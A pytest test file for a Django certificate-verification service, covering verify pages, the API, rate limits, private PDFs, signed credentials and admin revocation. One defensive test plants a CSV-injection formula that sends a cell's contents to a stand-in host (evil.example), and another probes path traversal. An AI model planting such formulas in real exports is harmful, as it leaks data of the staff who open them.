"""Employers verify certificates on a phone: page, JSON API, rate limits; holders download."""

import time
from datetime import timedelta

import pytest
from django.utils import timezone

from certification.certificates import issuing, pipeline
from certification.models import Certificate
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db


def verify(client, certificate):
    return client.get(f"/verify/{certificate.public_code}/", headers={"accept-language": "en"})


def test_a_valid_certificate_shows_valid_with_holder_and_dates_but_no_contacts(
    client, issued_certificate
):
    html = verify(client, issued_certificate).content.decode()

    assert "VALID" in html
    assert "Сейітова Айгерім Бекқызы" in html
    assert issued_certificate.title_ru in html or issued_certificate.title("en") in html
    assert "aigerim@example.kz" not in html and "555 12 34" not in html


def test_the_code_is_accepted_in_any_case_and_without_dashes(client, issued_certificate):
    typed = issued_certificate.public_code.replace("-", "").lower()

    response = client.get(f"/verify/{typed}/")

    assert response.status_code == 302
    assert response["Location"] == f"/verify/{issued_certificate.public_code}/"


def test_the_verify_form_refuses_a_mistyped_code_with_a_clear_message(client):
    from certification.certificates.codes import new_code

    code = new_code()
    mistyped = ("1" if code[0] != "1" else "2") + code[1:]

    response = client.get("/verify/", {"code": mistyped}, headers={"accept-language": "en"})

    assert response.status_code == 200
    assert "This is not a certificate code" in response.content.decode()


def test_an_unknown_code_is_not_found(client):
    response = client.get("/verify/0000-0000-0000-0/", headers={"accept-language": "en"})

    assert response.status_code == 404
    assert "NOT FOUND" in response.content.decode()


def test_a_revoked_certificate_shows_the_reason_and_date(client, issued_certificate):
    issuing.revoke(certificate=issued_certificate, reason="Сертификат выдан по ошибке")

    html = verify(client, issued_certificate).content.decode()

    assert "REVOKED" in html
    assert "Сертификат выдан по ошибке" in html


def test_an_expired_certificate_says_so(client, issued_certificate):
    issued_certificate.expires_at = timezone.now() - timedelta(days=1)
    issued_certificate.save()

    assert "EXPIRED" in verify(client, issued_certificate).content.decode()


def test_a_replaced_certificate_points_to_its_replacement(
    client, issued_certificate, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=False):
        new = issuing.reissue(certificate=issued_certificate)

    html = verify(client, issued_certificate).content.decode()

    assert "REPLACED" in html
    assert f"/verify/{new.public_code}/" in html


def test_each_verification_is_counted_and_shown_to_the_holder(client, issued_certificate):
    for _ in range(3):
        verify(client, issued_certificate)
    client.force_login(issued_certificate.holder)

    html = client.get("/en/certificates/").content.decode()

    assert "Verified 3 times" in html


def test_the_api_returns_the_public_record(client, issued_certificate):
    response = client.get(f"/api/v1/certificates/{issued_certificate.public_code.lower()}")

    data = response.json()
    assert response.status_code == 200
    assert data["status"] == "valid"
    assert data["holder_name"] == "Сейітова Айгерім Бекқызы"
    assert "email" not in data and "phone" not in data


def test_the_api_says_not_found_for_unknown_codes(client):
    response = client.get("/api/v1/certificates/0000-0000-0000-0")

    assert response.status_code == 404


def test_the_api_publishes_an_openapi_schema(client):
    schema = client.get("/api/v1/openapi.json").json()

    assert "/api/v1/certificates/{code}" in schema["paths"]


def test_verification_is_rate_limited_per_client_address(client, issued_certificate, settings):
    settings.VERIFY_RATE_LIMIT = "3/m"

    statuses = [verify(client, issued_certificate).status_code for _ in range(5)]
    other_address = client.get(f"/verify/{issued_certificate.public_code}/", REMOTE_ADDR="10.1.2.3")

    assert statuses == [200, 200, 200, 429, 429]
    assert other_address.status_code == 200
    assert client.get(f"/api/v1/certificates/{issued_certificate.public_code}").status_code == 429


def test_the_pdf_is_private_to_the_holder_and_staff(client, issued_certificate):
    url = f"/certificates/{issued_certificate.public_code}/pdf/"

    assert client.get(url).status_code == 302  # anonymous: log in first
    client.force_login(UserFactory())
    assert client.get(url).status_code == 404
    client.force_login(issued_certificate.holder)
    response = client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content).startswith(b"%PDF")
    client.force_login(UserFactory(is_staff=True))
    assert client.get(url).status_code == 200


@pytest.fixture
def development_media_routes(settings):
    """The URLs as `make run` serves them (DEBUG): uploads under /media/."""
    import importlib

    from django.urls import clear_url_caches

    import lms.urls

    settings.DEBUG = True
    importlib.reload(lms.urls)
    clear_url_caches()
    yield
    settings.DEBUG = False
    importlib.reload(lms.urls)
    clear_url_caches()


def test_pdfs_are_not_reachable_through_the_media_url(
    client, issued_certificate, settings, development_media_routes
):
    public = settings.MEDIA_ROOT / "original_images" / "poster.png"
    public.parent.mkdir(parents=True, exist_ok=True)
    public.write_bytes(b"\x89PNG public upload")
    name = issued_certificate.pdf.name

    assert client.get("/media/original_images/poster.png").status_code == 200
    assert "private" in issued_certificate.pdf.path
    assert client.get(f"/media/private/{name}").status_code == 404
    assert client.get(f"/media/{name}").status_code == 404
    assert client.get(f"/media/original_images/../private/{name}").status_code in {400, 404}


def test_the_holder_downloads_the_signed_credential(client, issued_certificate, monkeypatch):
    client.force_login(issued_certificate.holder)

    response = client.get(f"/certificates/{issued_certificate.public_code}/credential/")

    assert response.status_code == 200
    assert response.content.decode() == issued_certificate.credential_jwt
    # Signed afresh, yet the same bytes a minute later: nothing in it depends on the clock.
    later = time.time() + 60
    monkeypatch.setattr(time, "time", lambda: later)
    again = client.get(f"/certificates/{issued_certificate.public_code}/credential/")
    assert again.content == response.content


def test_a_pending_certificate_reports_its_progress_to_the_holder(
    client, holder, django_capture_on_commit_callbacks
):
    from tests.certification.conftest import complete_course

    with django_capture_on_commit_callbacks(execute=False):
        complete_course(holder)
    certificate = Certificate.objects.get()
    client.force_login(holder)
    status_url = f"/certificates/{certificate.public_code}/status/"

    assert "Being prepared" in client.get("/en/certificates/").content.decode()
    assert client.get(status_url).json()["status"] == "pending"
    pipeline.render(certificate_id=certificate.pk)
    assert client.get(status_url).json() == {
        "code": certificate.public_code,
        "status": "issued",
        "pdf_url": f"/certificates/{certificate.public_code}/pdf/",
    }


def test_staff_revoke_from_the_admin_and_others_cannot(client, issued_certificate):
    from django.contrib.auth.models import Permission

    outsider = UserFactory()
    outsider.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(outsider)
    refused = client.post(f"/admin/certificates/{issued_certificate.pk}/revoke/", {"reason": "x"})
    assert (
        refused.status_code == 302 and refused["Location"] == "/admin/"
    )  # Wagtail's "no permission"
    issued_certificate.refresh_from_db()
    assert issued_certificate.status == Certificate.Status.ISSUED

    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    client.post(
        f"/admin/certificates/{issued_certificate.pk}/revoke/", {"reason": "Нарушение правил"}
    )

    issued_certificate.refresh_from_db()
    assert issued_certificate.status == Certificate.Status.REVOKED
    assert issued_certificate.revoked_reason == "Нарушение правил"


def test_the_admin_lists_and_inspects_certificates(client, issued_certificate):
    client.force_login(UserFactory(is_superuser=True, is_staff=True))

    listing = client.get("/admin/certificates/", {"q": issued_certificate.public_code})
    inspect = client.get(f"/admin/certificates/inspect/{issued_certificate.pk}/")

    assert issued_certificate.public_code in listing.content.decode()
    assert inspect.status_code == 200
    assert "Сейітова" in inspect.content.decode()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_admin_export_never_hands_a_spreadsheet_a_formula(
    client, issued_certificate, file_format
):
    """OWASP CSV injection: a holder's own name must not run when staff open the export."""
    import csv
    import io

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Certificate.objects.filter(pk=issued_certificate.pk).update(holder_name=formula)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))

    response = client.get("/admin/certificates/", {"export": file_format})
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert [row[1] for row in rows[1:]] == ["'" + formula]
    else:
        cells = [row[1] for row in load_workbook(io.BytesIO(content)).active.iter_rows()][1:]
        assert [(cell.value, cell.data_type) for cell in cells] == [(formula, "s")]


def test_a_downloaded_credential_verifies_with_pyjwt_against_the_published_jwks(
    client, issued_certificate
):
    import jwt

    client.force_login(issued_certificate.holder)
    token = client.get(
        f"/certificates/{issued_certificate.public_code}/credential/"
    ).content.decode()
    client.logout()
    published = client.get("/.well-known/jwks.json").json()
    kid = jwt.get_unverified_header(token)["kid"]
    key = next(k for k in published["keys"] if k["kid"] == kid)

    claims = jwt.decode(
        token, key=jwt.PyJWK(key), algorithms=["EdDSA"], options={"verify_aud": False}
    )

    # OB 3.0 §8.2 with VCDM 2.0: the payload is the credential, no "vc" claim.
    assert claims["id"] == issued_certificate.verify_url
    assert "OpenBadgeCredential" in claims["type"]
    assert client.get("/issuer/").json()["id"] == claims["iss"]


def test_the_printed_qr_code_leads_an_employer_to_valid_and_after_revocation_to_revoked(
    client, issued_certificate, django_capture_on_commit_callbacks
):
    """The real chain: the stored PDF, rasterised as a phone camera would see it, decoded by a
    real QR decoder, the decoded address opened."""
    from urllib.parse import urlparse

    from tests.certification.certificates.test_rendering import decoded_qr

    printed = issued_certificate.pdf.open("rb").read()
    scanned = decoded_qr(printed, scale=3)
    path = urlparse(scanned).path

    assert scanned == issued_certificate.verify_url
    assert "VALID" in client.get(path, headers={"accept-language": "en"}).content.decode()

    with django_capture_on_commit_callbacks(execute=True):
        issuing.revoke(certificate=issued_certificate, reason="Документы не подтвердились")

    html = client.get(path, headers={"accept-language": "en"}).content.decode()
    assert "REVOKED" in html and "Документы не подтвердились" in html


def test_a_cached_verification_page_changes_as_soon_as_the_certificate_is_revoked(
    client, issued_certificate, django_capture_on_commit_callbacks
):
    assert "VALID" in verify(client, issued_certificate).content.decode()  # now cached

    with django_capture_on_commit_callbacks(execute=True):
        issuing.revoke(certificate=issued_certificate, reason="Ошибка в данных")

    assert "REVOKED" in verify(client, issued_certificate).content.decode()


def test_a_cached_verification_page_shows_expired_from_the_moment_the_certificate_expires(
    client, issued_certificate, monkeypatch, settings
):
    # The cache's own clock is faked below, which only an in-process cache lets a test do (Redis
    # counts its TTLs itself); the TTL's rounding is the same for every cache.
    settings.CACHES = {
        "default": {
            "BACKEND": "django.core.cache.backends.locmem.LocMemCache",
            "LOCATION": "expiry",
        }
    }
    issued_certificate.expires_at = timezone.now() + timedelta(seconds=2.5)
    issued_certificate.save()
    assert "VALID" in verify(client, issued_certificate).content.decode()  # now cached

    # A fifth of a second after the expiry moment, on the cache's clock and the page's alike.
    later = issued_certificate.expires_at + timedelta(milliseconds=200)
    shift = (later - timezone.now()).total_seconds()
    real_time = time.time
    monkeypatch.setattr(time, "time", lambda: real_time() + shift)
    monkeypatch.setattr(timezone, "now", lambda: later)

    assert "EXPIRED" in verify(client, issued_certificate).content.decode()


def test_each_language_gets_its_own_cached_verification_page(client, issued_certificate):
    url = f"/verify/{issued_certificate.public_code}/"
    english = client.get(url, headers={"accept-language": "en"})
    russian = client.get(url, headers={"accept-language": "ru"})
    kazakh = client.get(f"{url}?lang=kk", headers={"accept-language": "en"})
    english_again = client.get(url, headers={"accept-language": "en"})

    assert '<html lang="en">' in english.content.decode()
    assert '<html lang="ru">' in russian.content.decode()
    assert '<html lang="kk">' in kazakh.content.decode()
    assert english_again.content == english.content
    assert [r["Content-Language"] for r in (english, russian, kazakh)] == ["en", "ru", "kk"]
